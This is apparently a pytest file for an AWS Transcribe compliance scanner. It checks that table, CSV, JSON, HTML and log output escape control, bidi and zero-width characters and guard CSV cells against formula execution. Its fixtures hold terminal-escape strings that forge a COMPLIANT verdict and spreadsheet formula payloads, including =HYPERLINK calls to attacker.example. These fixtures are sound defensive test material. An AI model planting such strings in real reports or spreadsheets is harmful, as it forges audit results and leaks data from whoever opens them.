"""Output that cannot be forged: every renderer (scan table, CSV and JSON, `compliance`, the
evidence bundle's evidence.json, evidence.csv and report.html, log lines) shows control, bidi and
zero-width characters as visible escapes, and no CSV cell can run as a spreadsheet formula, whoever
wrote the row (a rule, a saved report, AWS Config)."""

from __future__ import annotations

import csv
import io
import json
import logging
from pathlib import Path

import pytest

from rules.engine.safe_text import UNSAFE_CHARACTERS
from transcribe_guard import cli, deploy
from transcribe_guard.render import render, render_pack_compliance
from transcribe_guard.output_safety import FORMULA_TRIGGERS, csv_cell, display_width, json_text, visible

ARN = "arn:aws:transcribe:us-east-1:123456789012:transcription-job"
# Erase the line, return to column 0 and print a verdict of one's own; then bell, carriage return,
# a right-to-left override and a zero-width space.
FORGED = "x\x1b[2K\x1b[GCOMPLIANT  transcribe-job-pii-redaction"
HOSTILE = f"{FORGED}\a\r\u202e\u200b"
RAW = ("\x1b", "\a", "\r", "\u202e", "\u200b")
ESCAPED = ("\\x1b", "\\x07", "\\x0d", "\\u202e", "\\u200b")


def hostile_rows() -> list[dict[str, str]]:
    return [
        {"account": "123456789012", "region": "us-east-1", "evaluated_at": "2026-12-02T12:00:00Z",
         "rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
         "resource_id": f"{ARN}/{HOSTILE}", "compliance": "NON_COMPLIANT", "annotation": f"Job {HOSTILE} lacks it."},
        {"account": "123456789012", "region": "us-east-1", "evaluated_at": "2026-12-02T12:00:00Z",
         "rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
         "resource_id": f"{ARN}/通話-記録", "compliance": "COMPLIANT", "annotation": "Redaction is on."},
        {"account": "123456789012", "region": "us-east-1", "evaluated_at": "2026-12-02T12:00:00Z",
         "rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
         "resource_id": f"{ARN}/plain", "compliance": "NOT_APPLICABLE", "annotation": "Tab\there, line\nthere."},
    ]


def assert_no_raw(text: str) -> None:
    assert not UNSAFE_CHARACTERS.search(text.replace("\n", "")), repr(UNSAFE_CHARACTERS.search(text.replace("\n", "")))


def test_table_escapes_every_cell_and_keeps_the_columns_aligned() -> None:
    rows = hostile_rows()
    text = render(rows, "table", ["transcribe-job-pii-redaction"])
    assert_no_raw(text)
    lines = text.splitlines()
    assert len(lines) == 1 + len(rows) + 4  # header, one line per row (no CR or LF inside a row), summary
    assert lines[1].startswith("NON_COMPLIANT  ")  # the forged verdict cannot move to the start of the line
    for raw, escaped in zip(RAW, ESCAPED):
        assert escaped in lines[1], raw
    assert "\\x09" in lines[3] and "\\x0a" in lines[3]
    # Columns line up in terminal cells: the ANNOTATION column starts at the same cell on every line,
    # the wide characters of 通話-記録 counted twice.
    starts = {display_width(line[:line.index(label)]) for line, label in
              zip(lines[:4], ("ANNOTATION", "Job ", "Redaction", "Tab"))}
    assert len(starts) == 1, starts
    resource_starts = {display_width(line[:line.index(label)]) for line, label in
                       zip(lines[:4], ("RESOURCE", ARN, ARN, ARN))}
    assert len(resource_starts) == 1


def test_scan_csv_escapes_and_guards_formula_cells() -> None:
    formulas = ["-2-3", '=HYPERLINK("http://attacker.example/?leak","click")', "+1", "@SUM(1,2)", "\t=1", "\r=1",
                " =1", "\uff1d1+1"]
    rows = hostile_rows() + [{"account": "123456789012", "region": "us-east-1", "evaluated_at": "2026-12-02T12:00:00Z",
         "rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
                              "resource_id": value, "compliance": "NON_COMPLIANT", "annotation": value}
                             for value in formulas]
    text = render(rows, "csv", ["transcribe-job-pii-redaction"])
    assert_no_raw(text)
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert len(parsed) == len(rows)
    assert parsed[0]["resource_id"] == f"{ARN}/x\\x1b[2K\\x1b[GCOMPLIANT  transcribe-job-pii-redaction" \
        "\\x07\\x0d\\u202e\\u200b"
    for value, row in zip(formulas, parsed[len(hostile_rows()):]):
        # An apostrophe before the formula; a leading tab or CR is written as its escape instead.
        expected = "'" + value if value[0].isprintable() else visible(value)
        assert (row["resource_id"], row["annotation"]) == (expected, expected)
    assert [row["resource_id"] for row in parsed[-4:-2]] == ["\\x09=1", "\\x0d=1"]
    assert parsed[3]["resource_id"] == "'-2-3" and parsed[4]["resource_id"].startswith("'=HYPERLINK(")
    # Cells that are not formulas are left as they were.
    assert parsed[1]["resource_id"] == f"{ARN}/通話-記録" and parsed[1]["compliance"] == "COMPLIANT"


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\t1", "\r1", "\n1", "\x001", "  =1", "\uff20a",
                                   "\uff0b1", "\uff0d1"])
def test_every_formula_trigger_is_guarded(value: str) -> None:
    cell = csv_cell(value)
    if value[0].isprintable():
        assert cell == "'" + value
    else:  # a leading control character is written as its escape: the cell starts with a backslash
        assert cell == visible(value) and cell.startswith("\\x")
    assert csv_cell(value.lstrip(" ")[1:]) == value.lstrip(" ")[1:]  # the rest is no formula
    assert {"=", "+", "-", "@", "\t", "\r", "\n", "\x00"} <= FORMULA_TRIGGERS


def test_scan_json_round_trips_with_every_unsafe_character_escaped() -> None:
    rows = hostile_rows()
    text = render(rows, "json", ["transcribe-job-pii-redaction"])
    assert text.isascii() and "\\u202e" in text and "\\u001b" in text
    # Each result comes back exactly, with what findings.enrich adds (status, severity, ...).
    assert [{k: r[k] for k in rows[0]} for r in json.loads(text)["evaluations"]] == rows


def test_json_text_escapes_only_what_is_unsafe_and_round_trips() -> None:
    document = {"id": HOSTILE, "name": "通話-記録 café", "tag": "a\U000e0041b", "lone": "\ud800", "c1": "\x9b2K"}
    text = json_text(document, indent=2)
    assert_no_raw(text)
    assert "通話-記録 café" in text  # readable non-ASCII stays as it is
    assert "\\u202e" in text and "\\udb40\\udc41" in text and "\\ud800" in text and "\\u009b" in text
    assert json.loads(text) == document
    text.encode("utf-8")  # a lone surrogate, written raw, could not be encoded at all


def test_visible_escapes_tag_characters_and_lone_surrogates_too() -> None:
    assert visible("a\U000e0041\ud800b\u2028") == "a\\U000e0041\\ud800b\\u2028"
    assert visible("plain arn:aws:s3:::bucket/通話") == "plain arn:aws:s3:::bucket/通話"
    assert visible(None) == ""


def test_compliance_table_escapes_what_config_returned() -> None:
    hostile_rule = "other-rule\x1b[2K\x1b[G\u202e"
    compliance = deploy.PackCompliance(
        "transcribe-guard", "50.00", {"transcribe-job-pii-redaction": "NON_COMPLIANT", hostile_rule: "COMPLIANT"},
        [{"account": "123456789012", "region": "us-east-1", "evaluated_at": "2026-12-02T12:00:00Z",
         "rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account", "resource_id": HOSTILE,
          "compliance": "NON_COMPLIANT"}])
    text = render_pack_compliance(compliance, "table")
    assert_no_raw(text)
    lines = text.splitlines()
    rows = [line for line in lines if line.startswith(("other-rule", "transcribe-job"))]
    assert len(rows) == 2 and "other-rule\\x1b[2K\\x1b[G\\u202e" in rows[0]
    assert len({row.index("COMPLIANT") if "NON_" not in row else row.index("NON_COMPLIANT") for row in rows}) == 1
    as_json = render_pack_compliance(compliance, "json")
    assert as_json.isascii() and json.loads(as_json)["evaluations"] == compliance.results


def test_saved_report_with_hostile_rows_makes_a_bundle_that_shows_them_escaped(tmp_path: Path) -> None:
    """Through the real CLI: a saved `scan --format json` (which anyone could have edited) into
    `evidence --from FILE`; evidence.json keeps the values exactly, evidence.csv and report.html
    show them escaped and guarded."""
    rows = hostile_rows() + [{"account": "123456789012", "region": "us-east-1", "evaluated_at": "2026-12-02T12:00:00Z",
         "rule": "transcribe-job-pii-redaction", "resource_type": "AWS::::Account",
                              "resource_id": "=HYPERLINK(\"http://attacker.example\")", "compliance": "NON_COMPLIANT",
                              "annotation": "-2-3"}]
    saved = tmp_path / "scan.json"
    rows = [{**row, "evaluated_at": "2026-03-14T15:09:26Z"} for row in rows]  # as every saved scan result has
    saved.write_text(json.dumps({"evaluations": rows, "summary": {}}), encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    code = cli.main(["evidence", "--from", str(saved), "--output", str(tmp_path / "bundle"), "--framework", "hipaa",
                     "--quiet"], out, err)
    assert code == cli.EXIT_NON_COMPLIANT, err.getvalue()
    bundle = tmp_path / "bundle"

    raw_json = (bundle / "evidence.json").read_text(encoding="utf-8")
    assert_no_raw(raw_json)
    results = json.loads(raw_json)["results"]
    assert {(r["resource_id"], r["annotation"]) for r in results} == {(r["resource_id"], r["annotation"]) for r in rows}

    csv_text = (bundle / "evidence.csv").read_bytes().decode("utf-8-sig")
    assert_no_raw(csv_text.replace("\r\n", "\n"))
    cells = [row for row in csv.DictReader(io.StringIO(csv_text)) if row["Resource ID"]]
    assert {row["Resource ID"] for row in cells} == {csv_cell(r["resource_id"]) for r in rows}
    assert "'=HYPERLINK(\"http://attacker.example\")" in {row["Resource ID"] for row in cells}
    assert "'-2-3" in {row["Annotation"] for row in cells}

    page = (bundle / "report.html").read_text(encoding="utf-8")
    assert_no_raw(page)
    assert "x\\x1b[2K\\x1b[GCOMPLIANT" in page and "\\u202e\\u200b" in page
    assert cli.main(["evidence", "verify", str(bundle)], io.StringIO(), err) == cli.EXIT_UNAUTHENTICATED


def test_log_lines_escape_what_they_carry_and_keep_their_lines() -> None:
    record = logging.LogRecord("transcribe_guard.rules", logging.WARNING, __file__, 1, "role %s: failed\nsecond line",
                               (HOSTILE,), None)
    text = cli._VisibleFormatter("%(message)s").format(record)
    assert text.split("\n")[1] == "second line"
    assert_no_raw(text.replace("\n", ""))
    assert "\\u202e" in text
